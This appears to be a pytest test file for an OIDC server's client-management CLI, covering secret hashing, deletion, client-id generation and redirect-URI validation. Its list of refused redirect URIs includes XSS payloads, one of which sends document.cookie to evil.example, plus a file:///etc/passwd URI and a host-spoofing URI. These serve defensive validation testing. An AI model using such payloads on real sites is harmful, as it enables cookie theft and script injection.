"""``authgate client create | list | delete`` (API.md §5)."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from authgate.cli import app as cli
from authgate.core import oidc_clients
from authgate.core.digests import token_digest
from authgate.core.oidc import is_client_id, new_client_id


@pytest.fixture
def run_cli(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Callable[..., Any]:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("AUTHGATE_DATABASE_URL", f"sqlite+aiosqlite:///{tmp_path / 'a.db'}")
    monkeypatch.setenv("AUTHGATE_SECRET", "s" * 40)

    def invoke(*args: str) -> Any:
        return CliRunner().invoke(cli, list(args))

    return invoke


def listed(run_cli: Callable[..., Any]) -> list[dict[str, Any]]:
    result = run_cli("client", "list", "--json")
    assert result.exit_code == 0, result.output
    return [json.loads(line) for line in result.stdout.splitlines()]


def test_create_prints_the_secret_once_and_keeps_its_hash(
    run_cli: Callable[..., Any], tmp_path: Path
) -> None:
    """The secret is printed at creation only; the database holds its SHA-256."""
    result = run_cli(
        "client", "create", "My App", "--redirect-uri", "https://app.example/cb", "--first-party"
    )
    assert result.exit_code == 0, result.output
    lines = dict(line.split(": ", 1) for line in result.stdout.splitlines() if ": " in line)
    secret = lines["client_secret"]
    (client,) = listed(run_cli)
    assert client["client_id"] == lines["client_id"]
    assert client["type"] == "confidential"
    assert client["first_party"] is True
    assert client["redirect_uris"] == ["https://app.example/cb"]
    assert secret not in run_cli("client", "list").stdout
    database = (tmp_path / "a.db").read_bytes()
    assert secret.encode() not in database
    assert token_digest(secret).encode() in database


def test_public_client_has_no_secret(run_cli: Callable[..., Any]) -> None:
    """``--public``: no secret is made or printed."""
    result = run_cli(
        "client", "create", "SPA", "--redirect-uri", "http://127.0.0.1:5173/cb", "--public"
    )
    assert result.exit_code == 0, result.output
    assert "client_secret" not in result.stdout
    assert listed(run_cli)[0]["type"] == "public"


@pytest.mark.parametrize(
    "uri",
    [
        pytest.param("http://app.example/cb", id="http-not-loopback"),
        pytest.param("https://app.example/cb#x", id="fragment"),
        pytest.param("/relative", id="relative"),
        pytest.param("javascript:fetch('//evil.example/'+document.cookie)//", id="javascript"),
        pytest.param("JavaScript:alert(1)//", id="javascript-capitals"),
        pytest.param("java\tscript:alert(1)//", id="javascript-with-a-tab"),
        pytest.param(" javascript:alert(1)//", id="javascript-after-a-space"),
        pytest.param("vbscript:msgbox(1)", id="vbscript"),
        pytest.param("data:text/html,<script>alert(1)</script>", id="data"),
        pytest.param("file:///etc/passwd", id="file"),
        pytest.param("ftp://files.example/cb", id="ftp"),
        pytest.param("https://app.example@evil.example/cb", id="user-name"),
    ],
)
def test_bad_redirect_uris_are_refused(run_cli: Callable[..., Any], uri: str) -> None:
    """One line on stderr, exit 1, nothing registered."""
    result = run_cli("client", "create", "X", "--redirect-uri", uri)
    assert result.exit_code == 1
    assert len(result.stderr.splitlines()) == 1
    assert "Traceback" not in result.output
    assert listed(run_cli) == []


@pytest.mark.parametrize(
    "uri",
    [
        "https://app.example/cb?tenant=1",
        "http://[::1]:8080/cb",
        "com.example.app:/oauth2redirect",
        "myapp://callback",
    ],
)
def test_good_redirect_uris_are_registered(run_cli: Callable[..., Any], uri: str) -> None:
    """https, loopback http and native apps' private-use schemes (RFC 8252 §7)."""
    result = run_cli("client", "create", "X", "--redirect-uri", uri, "--public")
    assert result.exit_code == 0, result.output
    assert listed(run_cli)[0]["redirect_uris"] == [uri]


def test_delete(run_cli: Callable[..., Any]) -> None:
    """A deleted client is gone; an unknown one is exit 1."""
    run_cli("client", "create", "X", "--redirect-uri", "https://x.example/cb")
    (client,) = listed(run_cli)
    assert run_cli("client", "delete", client["client_id"]).exit_code == 0
    assert listed(run_cli) == []
    assert run_cli("client", "delete", client["client_id"]).exit_code == 1


def test_new_client_ids_never_begin_with_a_dash() -> None:
    """One plain draw in 64 begins with `-`; none of 3,000 ids may."""
    ids = [new_client_id() for _ in range(3000)]
    assert not [value for value in ids if value.startswith("-")]
    assert all(is_client_id(value) and len(value) == 22 for value in ids)
    assert len(set(ids)) == len(ids)


@pytest.mark.parametrize("client_id", ["-ykw6C7BhZ4mayKcYAat_w", "--h-Zl0aW_n3lM5xq8QpYw"])
def test_delete_takes_an_id_that_begins_with_a_dash(
    run_cli: Callable[..., Any], monkeypatch: pytest.MonkeyPatch, client_id: str
) -> None:
    """Ids made before they stopped beginning with `-` are read as the id, not an option."""
    monkeypatch.setattr(oidc_clients, "new_client_id", lambda: client_id)
    run_cli("client", "create", "X", "--redirect-uri", "https://x.example/cb")
    assert [client["client_id"] for client in listed(run_cli)] == [client_id]
    result = run_cli("client", "delete", client_id)
    assert result.exit_code == 0, result.output
    assert f"deleted {client_id}" in result.stdout
    assert listed(run_cli) == []
